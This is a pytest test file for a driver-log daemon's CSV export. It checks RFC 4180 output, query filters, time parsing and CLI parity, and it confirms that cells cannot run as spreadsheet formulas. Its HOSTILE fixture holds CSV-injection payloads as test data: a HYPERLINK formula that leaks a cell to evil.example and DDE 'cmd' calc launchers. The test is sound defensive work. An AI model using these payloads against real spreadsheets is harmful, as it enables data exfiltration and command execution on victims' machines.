"""CSV exports over real HTTP and from the CLI: RFC 4180, filters, and cells a spreadsheet cannot run."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from driverlog_daemon.cli import main
from driverlog_daemon.expose.export import FORMULA_STARTS, parse_time, safe_cell
from driverlog_daemon.store.store import Batch
from driverlog_daemon.testing.db import query
from driverlog_daemon.testing.site import NOW, Site, merged, vote

FC, ISCSI = "Acme Volume Driver (FC)", "Acme Volume Driver (iSCSI)"
HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", 'a "quoted", multi\nline, comma cell']


def table(body: bytes) -> list[list[str]]:
    text = body.decode("utf-8")
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.fixture
def hostile_site(site: Site) -> Site:
    site.store.commit(Batch("stream", [vote(site.registry, FC, 600 + i, 1, NOW - 500 + i,
                                            "failure" if i % 2 else "success", "Gazpacho", evidence=text,
                                            url=f"=cmd{i}", sha=chr(98 + i))
                                       for i, text in enumerate(HOSTILE)],
                            changes=[merged(600 + i, 1, NOW - 400 + i) for i in range(len(HOSTILE))]))
    return site


def test_verifications_csv_is_rfc4180_with_a_header_and_every_row(hostile_site: Site) -> None:
    status, headers, body = hostile_site.get("/export/verifications.csv")
    assert status == 200 and headers["content-type"] == "text/csv; charset=utf-8; header=present"
    assert headers["content-disposition"] == 'attachment; filename="driverlog-verifications.csv"'
    assert body.endswith(b"\r\n") and b"\r\n" in body.split(b"\n", 1)[0] + b"\n"  # CRLF records
    rows = table(body)
    assert rows[0][:5] == ["id", "driver_id", "project_id", "vendor", "driver"] and "evidence" in rows[0]
    (count,) = query(hostile_site.db, "SELECT count(*) FROM verifications")[0]
    assert len(rows) - 1 == count
    ids = [int(r[0]) for r in rows[1:]]
    assert ids == sorted(ids)  # in the order they were recorded
    record = dict(zip(rows[0], rows[-1], strict=True))
    assert record["comment_time"].endswith("Z") and record["driver"] == FC


def test_no_cell_from_gerrit_can_run_as_a_formula(hostile_site: Site) -> None:
    for path in ("/export/verifications.csv", "/export/marks.csv"):
        rows = table(hostile_site.get(path)[2])
        cells = [c for r in rows[1:] for c in r]
        assert not [c for c in cells if c.startswith(FORMULA_STARTS)], path
    rows = table(hostile_site.get("/export/verifications.csv")[2])
    evidence = [dict(zip(rows[0], r, strict=True))["evidence"] for r in rows[1:]]
    for text in HOSTILE:  # each kept whole, shown as text: a leading ' where it would run
        assert (("'" + text) if text.startswith(FORMULA_STARTS) else text) in evidence
    urls = {dict(zip(rows[0], r, strict=True))["review_url"] for r in rows[1:]}
    assert "'=cmd0" in urls and "=cmd0" not in urls


def test_safe_cell_leaves_numbers_and_plain_text_alone() -> None:
    assert safe_cell(-3) == -3 and safe_cell("SUCCESS in 1h") == "SUCCESS in 1h" and safe_cell(None) is None
    assert safe_cell("=1") == "'=1" and safe_cell("-") == "'-"


def test_marks_csv_is_the_mark_history(hostile_site: Site) -> None:
    fc = hostile_site.driver_id(FC)
    rows = table(hostile_site.get(f"/export/marks.csv?driver={fc}")[2])
    history = hostile_site.json(f"/api/1.0/drivers/{fc}/history")["transitions"]
    got = [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]
    assert [g["transition_id"] for g in got] == [t["id"] for t in reversed(history)]  # oldest first
    assert {g["driver"] for g in got} == {FC} and {g["to"] for g in got} == {"success", "failure"}


def test_filters_and_bad_values(hostile_site: Site) -> None:
    iscsi = hostile_site.driver_id(ISCSI)
    rows = table(hostile_site.get(f"/export/verifications.csv?driver={iscsi}")[2])
    assert len(rows) == 2 and rows[1][4] == ISCSI
    since = NOW - 500 + 3
    rows = table(hostile_site.get(f"/export/verifications.csv?since={since}&until={since + 2}")[2])
    assert sorted(r[rows[0].index("change_number")] for r in rows[1:]) == ["603", "604"]
    assert len(table(hostile_site.get("/export/verifications.csv?since=2000-01-01&until=2000-01-02")[2])) == 1
    for bad, reason in (("driver=x", b"driver must be an integer, not 'x'\n"),
                        ("since=yesterday", b"since must be epoch seconds or an ISO 8601 date or time, not "
                                            b"'yesterday'\n")):
        status, _, body = hostile_site.get(f"/export/verifications.csv?{bad}")
        assert (status, body) == (400, reason)
    status, headers, body = hostile_site.get("/export/verifications.csv", "HEAD")
    assert status == 200 and body == b"" and headers["content-type"].startswith("text/csv")
    assert hostile_site.get("/export/verifications.csv", "POST")[0] == 405


def test_parse_time() -> None:
    assert parse_time("1790000000", "since") == 1790000000
    assert parse_time("2026-11-30", "since") == 1795996800
    assert parse_time("2026-11-30T01:00:00+01:00", "until") == 1795996800


def test_the_cli_writes_the_same_csv(hostile_site: Site, capsysbinary: pytest.CaptureFixture[bytes],
                                     tmp_path: Path) -> None:
    for what in ("verifications", "marks"):
        assert main(["export", what, "--database", str(hostile_site.db), "--since", str(NOW - 10**6)]) == 0
        assert capsysbinary.readouterr().out == hostile_site.get(f"/export/{what}.csv?since={NOW - 10**6}")[2]
    assert main(["export", "marks", "--database", str(tmp_path / "none.sqlite")]) == 1
